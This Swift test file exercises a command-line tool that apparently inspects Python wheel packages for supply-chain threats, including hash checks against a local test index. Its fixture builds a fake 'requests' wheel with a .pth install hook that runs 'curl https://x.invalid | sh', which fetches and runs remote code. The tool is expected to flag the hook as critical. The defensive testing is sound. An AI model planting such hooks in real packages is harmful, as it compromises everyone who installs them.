import AlterCLI
import AlterKit
import AlterTestSupport
import Foundation
import Testing

/// `alterks inspect` end to end, in-process: local files, NAME==VERSION through a loopback index, exit codes.
@Suite struct InspectCommandTests {
    struct Run {
        var code: Int32
        var out: String
        var err: String
    }

    func run(_ arguments: [String], home: String, environment: [String: String] = [:]) async -> Run {
        let out = BufferStream()
        let err = BufferStream()
        var context = CLIContext.live
        context.stdout = out
        context.stderr = err
        context.environment = ["HOME": home].merging(environment) { $1 }
        context.currentDirectory = home
        let env = context.environment
        context.makeServices = { Services.live(environment: env, diagnostics: $0) }
        let code = await CLIContext.$current.withValue(context) { await AlterKSMain.run(arguments) }
        return Run(code: code, out: out.text, err: err.text)
    }

    static func malicious() -> ArtifactBuilder {
        var b = ArtifactBuilder(name: "requests", version: "2.99.0")
        b.add("requests/__init__.py", "from .api import get\n")
        b.add("requests/api.py", "def get(url):\n    return url\n")
        b.add("requests-init.pth", "import os; os.system('curl https://x.invalid | sh')\n")
        return b
    }

    static func benign(_ version: String = "2.98.0") -> ArtifactBuilder {
        var b = ArtifactBuilder(name: "requests", version: version)
        b.add("requests/__init__.py", "from .api import get\n")
        b.add("requests/api.py", "def get(url):\n    return url\n")
        return b
    }

    @Test func localWheelTableAndJSON() async throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let bad = Self.malicious()
        try bad.wheelData().write(to: dir.appendingPathComponent(bad.wheelFileName))
        let good = Self.benign()
        try good.wheelData().write(to: dir.appendingPathComponent(good.wheelFileName))

        let table = await run(["inspect", bad.wheelFileName], home: dir.path)
        #expect(table.code == 1)
        #expect(table.out.contains("pth-code"))
        #expect(table.out.contains("requests-init.pth:1"))
        #expect(table.out.contains("critical: quarantine by default"))

        let json = await run(["inspect", "--format", "json", dir.path + "/" + bad.wheelFileName], home: dir.path)
        #expect(json.code == 1)
        let object = try JSONSerialization.jsonObject(with: Data(json.out.utf8)) as? [String: Any]
        #expect(object?["critical"] as? Bool == true)
        let factor = object?["factor"] as? [String: Any]
        #expect(factor?["score"] as? Double == 1.0)
        let findings = (object?["inspection"] as? [String: Any])?["findings"] as? [[String: Any]]
        #expect(findings?.contains { $0["kind"] as? String == "pth-code" } == true)

        let clean = await run(["inspect", good.wheelFileName], home: dir.path)
        #expect(clean.code == 0)
        #expect(clean.out.contains("no findings"))
    }

    @Test func badInputIsTwo() async throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        #expect(await run(["inspect", "no-such-thing"], home: dir.path).code == 2)
        #expect(await run(["inspect", "requests==not a version"], home: dir.path).code == 2)
        #expect(await run(["inspect", "x.whl", "--format", "yaml"], home: dir.path).code == 2)
        try Data("hello".utf8).write(to: dir.appendingPathComponent("notes.txt"))
        #expect(await run(["inspect", "notes.txt"], home: dir.path).code == 2)
    }

    @Test func releaseFromALoopbackIndexWithDiffAndHashChecks() async throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let current = Self.malicious().wheelData()
        let previous = Self.benign().wheelData()
        let currentSHA = hexString(SHA256.hash(current))
        let previousSHA = hexString(SHA256.hash(previous))
        let tamperedSHA = String(repeating: "0", count: 64)
        let box = ServerBox()
        let server = try LoopbackHTTPServer { request in
            let base = box.base
            func file(_ name: String, _ sha: String, _ version: String) -> String {
                """
                {"filename": "\(name)", "url": "\(base)/files/\(name)", "digests": {"sha256": "\(sha)"},
                 "packagetype": "bdist_wheel", "yanked": false}
                """
            }
            let currentFile = file("requests-2.99.0-py3-none-any.whl", currentSHA, "2.99.0")
            let previousFile = file("requests-2.98.0-py3-none-any.whl", previousSHA, "2.98.0")
            let tamperedFile = file("requests-2.97.0-py3-none-any.whl", tamperedSHA, "2.97.0")
            switch request.path {
            case "/pypi/requests/2.99.0/json": return .json("{\"urls\": [\(currentFile)]}")
            case "/pypi/requests/2.97.0/json": return .json("{\"urls\": [\(tamperedFile)]}")
            case "/pypi/requests/json":
                return .json("{\"releases\": {\"2.98.0\": [\(previousFile)], \"2.99.0\": [\(currentFile)]}}")
            case "/files/requests-2.99.0-py3-none-any.whl": return ServerResponse(body: current)
            case "/files/requests-2.98.0-py3-none-any.whl", "/files/requests-2.97.0-py3-none-any.whl":
                return ServerResponse(body: previous)
            default: return .notFound
            }
        }
        defer { server.stop() }
        box.base = server.baseURL
        let env = ["ALTERKS_PYPI_URL": server.baseURL]

        let result = await run(
            ["inspect", "requests==2.99.0", "--diff-previous", "--format", "json"], home: dir.path, environment: env)
        #expect(result.code == 1, "\(result.err)")
        let object = try JSONSerialization.jsonObject(with: Data(result.out.utf8)) as? [String: Any]
        let diff = object?["diff"] as? [String: Any]
        #expect(diff?["previousVersion"] as? String == "2.98.0")
        #expect((diff?["newHooks"] as? [String]) == ["pth requests-init.pth (code)"])

        // Warm cache: the artifacts are not downloaded again.
        let downloads = server.requests.filter { $0.path.hasPrefix("/files/") }.count
        #expect(await run(["inspect", "requests==2.99.0"], home: dir.path, environment: env).code == 1)
        #expect(server.requests.filter { $0.path.hasPrefix("/files/") }.count == downloads)

        // The index says one hash, the download has another: refused, exit 3.
        let mismatch = await run(["inspect", "requests==2.97.0"], home: dir.path, environment: env)
        #expect(mismatch.code == 3)
        #expect(mismatch.err.contains("does not match"))
        #expect(await run(["inspect", "requests==1.0.0"], home: dir.path, environment: env).code == 3)
    }
}

/// The server's own URL, known only once it listens.
final class ServerBox: @unchecked Sendable {
    private let lock = NSLock()
    private var value = ""
    var base: String {
        get { lock.withLock { value } }
        set { lock.withLock { value = newValue } }
    }
}
